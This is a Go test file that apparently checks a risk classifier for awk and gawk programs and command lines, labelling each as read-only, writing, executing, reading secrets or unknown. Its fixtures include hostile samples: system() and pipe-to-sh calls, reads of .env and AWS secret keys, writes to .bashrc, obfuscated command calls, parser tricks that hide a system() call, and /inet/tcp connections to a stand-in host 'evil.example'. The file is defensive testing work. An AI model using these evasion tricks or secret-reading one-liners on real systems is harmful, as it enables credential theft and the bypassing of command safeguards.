package risk

import (
	"testing"
)

var awkCases = []progCase{
	// Read-only programs.
	{src: `{print $1}`},
	{src: `NR>1{s+=$2}END{print s}`},
	{src: `/x/ {c++} END {print c}`},
	{src: `$1 ~ /^a\/b/ && !/[/]x/ { n++ }`, kind: "unknown"}, // a / inside brackets
	{src: `{ gsub(/a/, "b"); print }`},
	{src: `{ x = $1 / 2; y = x / 3; print x, y }`},
	{src: `{ a[$1]++ } END { for (k in a) printf "%s %d\n", k, a[k] }`},
	{src: `function f(x) { return x * 2 } { print f($1) }`},
	{src: `func g(s) { return toupper(s) } { print g($0) }`},
	{src: `BEGIN { FS = ":"; OFS = "\t" } { $1 = $1; print }`},
	{src: `{ print length($0), substr($0, 2, 3), index($0, "x") }`},
	{src: `{ print (NF > 3) }`},
	{src: `{ if ($2 > 10) print $1 }`},
	{src: "{ print $1, \\\n $2 }"},
	{src: "# a comment with system(\"id\") and ENVIRON\n{ print }"},
	{src: `{ print "system(\"id\") ENVIRON" }`},
	{src: `{ n = split($0, parts, /,/); print n }`},
	{src: `BEGIN { print ARGV[1], ARGC }`},
	{src: `BEGIN { for (i = 0; i < ARGC; i++) print ARGV[i] }`},
	{src: `BEGIN { if (1 in ARGV) print "yes" }`},
	{src: `{ print > "/dev/stderr" }`},
	{src: `{ print x++ / 2 }`, kind: "unknown"},    // mawk reads a regex after x++
	{src: `{ print length / 2 }`, kind: "unknown"}, // and after length
	{src: `{ print x++, length }`},
	{src: "{ print $1,\n $2 > \"out.txt\" }", writes: []string{"out.txt"}},
	{src: `{ getline; print }`},
	{src: `{ getline line; print line }`},
	{src: `{ while ((getline line < "data.txt") > 0) print line }`, reads: []string{"data.txt"}},
	{src: `BEGIN { getline x < ".env"; print x }`, reads: []string{".env"}},
	{src: `BEGIN { getline < "-" }`},

	// Writes.
	{src: `{print > ".bashrc"}`, writes: []string{".bashrc"}},
	{src: `{print >> "log.txt"}`, writes: []string{"log.txt"}},
	{src: `{printf("%s\n", $1) > ("out")}`, writes: []string{"out"}},
	{src: `{print > $1 ".txt"}`, kind: "unknown"},
	{src: `{print > FILENAME}`, kind: "unknown"},
	{src: `{print > "a" "b"}`, kind: "unknown"},

	// Commands.
	{src: `BEGIN{system("id")}`, kind: "exec"},
	{src: `BEGIN{system ("id")}`, kind: "exec"},
	{src: `BEGIN{while(("id"|getline l)>0)print l}`, kind: "exec"},
	{src: `{ print | "sh" }`, kind: "exec"},
	{src: `{ print |& "sh" }`, kind: "exec"},
	{src: `BEGIN { "date" |& getline d }`, kind: "exec"},
	{src: `BEGIN{f="sys" "tem"; @f("id")}`, kind: "exec"},
	{src: `@load "filefuncs"`, kind: "exec"},

	// The environment.
	{src: `BEGIN{print ENVIRON["HOME"]}`, kind: "secret"},
	{src: `BEGIN{for (k in ENVIRON) print k}`, kind: "secret"},

	// Which files are read.
	{src: `BEGIN{ARGV[1]=".e" "nv";ARGC=2}{print}`, kind: "unknown"},
	{src: `BEGIN{ARGV[ARGC++]=".env"}{print}`, kind: "unknown"},
	{src: `BEGIN{ARGC=1}`, kind: "unknown"},
	{src: `BEGIN{ARGC += 1}`, kind: "unknown"},
	{src: `BEGIN{delete ARGV[1]}`, kind: "unknown"},
	{src: `BEGIN{split(".env", ARGV)}`, kind: "unknown"},
	{src: `function f(a){a[1]=".env"} BEGIN{f(ARGV)} {print}`, kind: "unknown"},
	{src: `BEGIN{sub(/x/, ".env", ARGV[1])}`, kind: "unknown"},
	{src: `BEGIN{getline ARGV[1] < "f"}`, kind: "unknown", reads: []string{"f"}},
	{src: `BEGIN{getline x < file}`, kind: "unknown"},

	// What the analysis does not know.
	{src: `BEGIN{PROCINFO["sorted_in"]="@ind_str_asc"}`},
	{src: `BEGIN{print PROCINFO["pid"]}`},
	{src: `BEGIN{PROCINFO["sorted_in"]="cmp"}`, kind: "unknown"},
	{src: `BEGIN{PROCINFO["sorted_in"]="@ind" x}`, kind: "unknown"},
	{src: `BEGIN{PROCINFO["sorted" "_in"]="system"}`, kind: "unknown"},
	{src: `BEGIN{PROCINFO[k]="system"}`, kind: "unknown"},
	{src: `BEGIN{sub(/x/, "system", PROCINFO["sorted_in"])}`, kind: "unknown"},
	{src: `BEGIN{f(PROCINFO)}`, kind: "unknown"},
	{src: `BEGIN{print SYMTAB["ENVIRON"]["HOME"]}`, kind: "unknown"},
	{src: `@include "lib.awk"`, kind: "unknown"},
	{src: `@namespace "x"`, kind: "unknown"},
	{src: `BEGIN{awk::system("id")}`, kind: "unknown"},
	{src: `BEGIN{frobnicate(1)}`, kind: "unknown"},
	{src: `BEGIN{bindtextdomain("/tmp")}`, kind: "unknown"},
	{src: `BEGIN{print "unclosed}`, kind: "unknown"},
	{src: `BEGIN{x = /unclosed}`, kind: "unknown"},
	{src: `BEGIN{x = 1 \ 2}`, kind: "unknown"},
	{src: `BEGIN{x = ++ /a/}`, kind: "unknown"},
	{src: `{ x = $/a/ }`, kind: "unknown"},
	{src: `{ print x >> }`, kind: "unknown"},
	{src: `BEGIN { x = 1 >> 2 }`, kind: "unknown"},
	{src: `BEGIN { printf "a" > "/inet/tcp/0/evil.example/80" }`, hosts: []string{"evil.example"}},
	{src: `BEGIN { getline < "/inet/tcp/0/evil.example/80" }`, hosts: []string{"evil.example"}},
	// After the condition of if or while, gawk reads a regular
	// expression where other awks divide.
	{src: `BEGIN { if (1) /"/; system("id"); /"/ }`, kind: "unknown"},
	{src: `{ while (x) /a/ }`, kind: "unknown"},
	{src: `{ if ((a) / 2 > 1) print }`},
	{src: `{ x = (a) / 2 }`},
	{src: "{ print }\r\n{ print $1 }"},
	{src: "BEGIN { x = a\r/\"/; system(\"id\"); /\"/ }", kind: "unknown"},
	{src: `$0 ~ @/x+/ { n++ }`},
	// A regex holding a quote, and a division that looks like one.
	{src: `/"/ { n++ } END { print n }`},
	{src: `{ x = a / "b"; system("id"); y = "c" / d }`, kind: "exec"},
}

func TestAwkProgram(t *testing.T) {
	for _, tc := range awkCases {
		checkProgram(t, "awk", AwkProgram(tc.src), tc)
	}
}

func TestAwkCommand(t *testing.T) {
	for _, tc := range []cmdCase{
		{line: []string{"awk", "{print $1}", "f"}, level: Read, reads: []string{"f"}},
		{line: []string{"awk", "-F:", "{print $1}", "/etc/passwd"}, level: Read, reads: []string{"/etc/passwd"}},
		{line: []string{"awk", "-F", ":", "-v", "x=1", "{print x}", "f"}, level: Read, reads: []string{"f"}},
		{line: []string{"awk", "-vx=a\\tb", "{print x}", "f", "FS=:", "g", "-"}, level: Read, reads: []string{"f", "g"}},
		{line: []string{"awk", "--", "{print}", "-f"}, level: Read, reads: []string{"-f"}},
		{line: []string{"awk", "{print}", "-f", "x"}, level: Read, reads: []string{"-f", "x"}},
		{line: []string{"gawk", "-e", "BEGIN{x=1}", "-e", "{print x}", "f"}, level: Read, reads: []string{"f"}},
		{line: []string{"gawk", "--source=BEGIN{system(\"id\")}", "f"}, level: Execute, reads: []string{"f"}, exec: true},
		{line: []string{"awk", "-f", "prog.awk", "f"}, level: Execute, reads: []string{"f", "prog.awk"}, exec: true},
		{line: []string{"gawk", "--fil=prog.awk", "f"}, level: Execute, reads: []string{"f", "prog.awk"}, exec: true},
		{line: []string{"gawk", "-i", "lib", "{print}"}, level: Execute, reads: []string{"lib"}, exec: true},
		{line: []string{"gawk", "-l", "fork", "{print}"}, level: Execute, exec: true},
		{line: []string{"awk", "-W", "exec", "x"}, level: Execute, reads: []string{"x"}, exec: true}, // the words after an unknown option are checked as files
		{line: []string{"awk", "-Z", "{print}"}, level: Execute, exec: true},
		{line: []string{"awk", "BEGIN{print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"]}"}, level: Credential, secret: true},
		{line: []string{"awk", "{print > \".bashrc\"}", "f"}, level: Write, reads: []string{"f"}, writes: []string{".bashrc"}},
		{line: []string{"awk"}, level: Execute, exec: true},
	} {
		checkCommand(t, tc, nil)
	}
	// A program not known statically is unknown; a file not known
	// statically makes the effect on files unknown.
	checkCommand(t, cmdCase{line: []string{"awk", "$P", "f"}, level: Execute, reads: []string{"f"}, exec: true, unknown: true}, []bool{true, false})
	checkCommand(t, cmdCase{line: []string{"awk", "{print}", "$F"}, level: Read, unknown: true}, []bool{false, true})
	checkCommand(t, cmdCase{line: []string{"awk", "-v", "$V", "{print}", "f"}, level: Read, reads: []string{"f"}}, []bool{false, true})
}

func FuzzAwkProgram(f *testing.F) {
	for _, tc := range awkCases {
		f.Add(tc.src)
	}
	f.Fuzz(func(t *testing.T, src string) {
		p := AwkProgram(src)
		if p.ReadOnly() && (p.Exec != "" || p.Secret != "") {
			t.Fatalf("read-only with a reason: %+v", p)
		}
		// Whatever comes before it, a later statement that runs a command
		// is seen: no text hides the rest of the program.
		q := AwkProgram(src + "\nBEGIN{system(\"id\")}")
		if q.Exec == "" && q.Unknown == "" {
			t.Fatalf("%q hides a system() call after it: %+v", src, q)
		}
	})
}
